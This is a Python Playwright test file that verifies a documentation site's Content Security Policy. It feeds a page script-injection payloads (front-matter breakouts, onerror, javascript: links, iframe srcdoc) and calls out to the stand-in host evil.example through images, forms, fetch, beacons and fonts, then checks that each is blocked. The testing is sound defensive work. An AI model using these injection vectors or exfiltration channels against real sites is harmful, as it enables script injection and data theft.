"""The policy of each page in a browser: what was smuggled in does not run, and nothing gets out."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, expect
from support import Site

LESSON = """---
title: "A</title><script>smuggled.push('title')</script>"
description: "x\\"><script>smuggled.push('description')</script>"
---
# Ett

<script>smuggled.push('script')</script>
<script type="module">smuggled.push('module')</script>

<img src="no.png" alt="" onerror="smuggled.push('handler')">

<a href="javascript:smuggled.push('link')">Tryck</a>

<iframe srcdoc="<script>parent.smuggled.push('frame')</script>" title="Ram"></iframe>

<object data="frame.html">Inget</object>

<base href="elsewhere/">

Slut.
"""
HEAR = """
window.smuggled = []
window.stopped = []
addEventListener("securitypolicyviolation", event => stopped.push(event.effectiveDirective))
"""


@pytest.fixture
def tried(browser: Browser) -> Iterator[BrowserContext]:
    """A context in which a page may complain of what its policy stops."""
    context = browser.new_context(service_workers="block")
    context.add_init_script(HEAR)
    yield context
    context.close()


def test_what_is_smuggled_into_a_page_does_not_run(tried: BrowserContext, small: Callable[..., Site]) -> None:
    files = {"content/sv/one.md": LESSON, "content/zh/one.md": LESSON, "content/sv/frame.html": "x"}
    page = tried.new_page()
    complaints: list[str] = []
    page.on("console", lambda told: complaints.append(told.text) if told.type == "error" else None)
    page.goto(f"{small({}, files=files).url}sv/one/")
    page.get_by_text("Tryck").click()
    expect(page.get_by_text("Slut.")).to_be_visible()
    # The page is otherwise whole: the theme's own scripts have run.
    assert page.evaluate("typeof __md_get") == "function" and page.evaluate("document.body.className === ''")
    page.wait_for_function("['elem', 'attr'].every(it => stopped.includes(`script-src-${it}`))")
    page.wait_for_function("['object-src', 'base-uri'].every(it => stopped.includes(it))")
    assert page.evaluate("smuggled") == []
    # The fixture `clean` fails every other test by such a complaint.
    assert any("Content Security Policy" in text for text in complaints)


def test_nothing_is_sent_to_another_site(tried: BrowserContext, site: Site) -> None:
    """Whatever runs in a page after all, it finds no way out."""
    failed: list[tuple[str, str]] = []
    tried.on("requestfailed", lambda it: failed.append((it.url, it.failure)) if "evil" in it.url else None)
    page = tried.new_page()
    page.goto(f"{site.url}sv/")
    page.evaluate("""() => {
      const element = (name, given) => document.body.append(Object.assign(document.createElement(name), given))
      element("img", {src: "http://evil.example/img"})
      element("iframe", {src: "http://evil.example/frame"})
      element("script", {src: "http://evil.example/script"})
      element("link", {rel: "stylesheet", href: "http://evil.example/style"})
      element("video", {src: "http://evil.example/video"})
      element("form", {action: "http://evil.example/form", id: "form"})
      document.getElementById("form").submit()
      fetch("http://evil.example/fetch").catch(() => {})
      navigator.sendBeacon("http://evil.example/beacon")
      new FontFace("f", "url(http://evil.example/font)").load().catch(() => {})
    }""")
    wanted = ["connect-src", "font-src", "form-action", "frame-src", "img-src", "media-src"]
    wanted += ["script-src-elem", "style-src-elem"]
    page.wait_for_function("wanted => wanted.every(it => stopped.includes(it))", arg=wanted)
    assert page.evaluate("[...new Set(stopped)].sort()") == wanted
    # Stopped before the name was even looked up.
    assert failed and {why for _, why in failed} == {"csp"}
